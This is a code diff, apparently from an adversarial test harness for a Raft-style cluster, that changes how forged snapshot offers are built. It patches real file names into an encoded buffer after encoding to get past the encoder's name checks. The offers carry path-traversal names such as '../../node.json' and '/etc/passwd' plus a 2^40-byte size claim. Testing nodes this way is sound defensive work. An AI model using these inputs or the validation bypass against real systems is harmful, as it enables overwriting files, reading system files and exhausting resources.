@@ -136,8 +136,11 @@ function offer(from: Target, to: Target, names: readonly string[], bytes: number
     },
   };
   const message = createMessage({ type: 'MsgSnap', from: from.nodeId, to: to.nodeId, term: 1, snapshot });
-  const files = names.map((name) => ({ name, bytes, crc: 1 }));
-  return grpcMessage(encodeOffer({ groupId: 1, message }, files, from.nodeId));
+  // The encoder refuses names that lead astray: they are put in place of harmless ones.
+  const files = names.map((name) => ({ name: 'x'.repeat(name.length), bytes, crc: 1 }));
+  const encoded = Buffer.from(encodeOffer({ groupId: 1, message }, files, from.nodeId));
+  for (const name of names) encoded.write(name, encoded.indexOf('x'.repeat(name.length)), 'latin1');
+  return grpcMessage(encoded);
 }
 
 const endlessSnapshotsAttack: Attack = {
@@ -147,7 +150,7 @@ const endlessSnapshotsAttack: Attack = {
   async run(field) {
     const sessions: ClientHttp2Session[] = [];
     const offers: ((from: Target, to: Target) => Uint8Array)[] = [
-      (from, to) => offer(from, to, ['0000000001.data', 'b'], 2 ** 40),
+      (from, to) => offer(from, to, ['0000000001.data', 'MANIFEST'], 2 ** 40),
       (from, to) => offer(from, to, ['../../node.json'], 10),
       (from, to) => offer(from, to, ['/etc/passwd'], 10),
       (from, to) => offer(from, to, [`${'a/'.repeat(120)}b`], 10),
